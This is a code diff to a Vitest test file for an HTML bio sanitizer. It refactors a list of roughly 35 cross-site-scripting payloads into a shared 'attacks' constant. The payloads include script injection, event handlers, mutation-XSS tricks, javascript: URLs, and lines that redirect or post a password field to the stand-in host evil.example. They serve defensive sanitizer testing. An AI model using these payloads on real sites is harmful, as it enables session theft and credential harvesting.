@@ -1,6 +1,44 @@
 import { describe, expect, it } from 'vitest';
 import { safeBio } from './safe-bio.ts';
 
+const attacks: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">t</a></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math><mi><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>*{background:url(https://evil.example/)}</style>',
+  '<p style="background:url(https://evil.example/)" class="x" id="cookie" onmouseover="alert(1)">t</p>',
+  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
+  '<details open ontoggle=alert(1)>t</details>',
+  '<video><source onerror="alert(1)"></video>',
+  '<<script>script>alert(1)<</script>/script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<p title="<script>alert(1)</script>">t</p>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<!-- --!><img src=x onerror=alert(1)> -->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '<a href="https://a.example/"onmouseover="alert(1)">t</a>',
+  '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">t</a>',
+  '<p/onclick=alert(1)>t</p>',
+  '<p\u0000 onclick=alert(1)>t</p>',
+  '<hearth-search onclick=alert(1)>t</hearth-search>',
+];
+
 describe('a bio', () => {
   it('retains text markup: paragraphs, emphasis, lists, headings and quotes', () => {
     const html =
@@ -36,43 +74,7 @@ describe('a bio', () => {
     );
   });
 
-  it.each([
-    '<script>alert(1)</script>',
-    '<img src=x onerror=alert(1)>',
-    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">t</a></svg>',
-    '<svg><style><img src=x onerror=alert(1)></style></svg>',
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-    '<math><mi><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style>',
-    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
-    '<template><script>alert(1)</script></template>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '<textarea><img src=x onerror=alert(1)></textarea>',
-    '<xmp><img src=x onerror=alert(1)></xmp>',
-    '<title><img src=x onerror=alert(1)></title>',
-    '<plaintext><img src=x onerror=alert(1)>',
-    '<base href="https://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<style>*{background:url(https://evil.example/)}</style>',
-    '<p style="background:url(https://evil.example/)" class="x" id="cookie" onmouseover="alert(1)">t</p>',
-    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
-    '<details open ontoggle=alert(1)>t</details>',
-    '<video><source onerror="alert(1)"></video>',
-    '<<script>script>alert(1)<</script>/script>',
-    '<scr<script>ipt>alert(1)</scr</script>ipt>',
-    '<p title="<script>alert(1)</script>">t</p>',
-    '<!--<img src="--><img src=x onerror=alert(1)//">',
-    '<!-- --!><img src=x onerror=alert(1)> -->',
-    '<![CDATA[<img src=x onerror=alert(1)>]]>',
-    '<?xml version="1.0"?><script>alert(1)</script>',
-    '<a href="https://a.example/"onmouseover="alert(1)">t</a>',
-    '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">t</a>',
-    '<p/onclick=alert(1)>t</p>',
-    '<p\u0000 onclick=alert(1)>t</p>',
-    '<hearth-search onclick=alert(1)>t</hearth-search>',
-  ])('runs, loads and asks nothing: %s', (html) => {
+  it.each(attacks)('runs, loads and asks nothing: %s', (html) => {
     const safe = safeBio(`<p>Ada</p>${html}`) ?? '';
     const left = safe.match(/<[^>]*>/g) ?? [];
     const allowed =
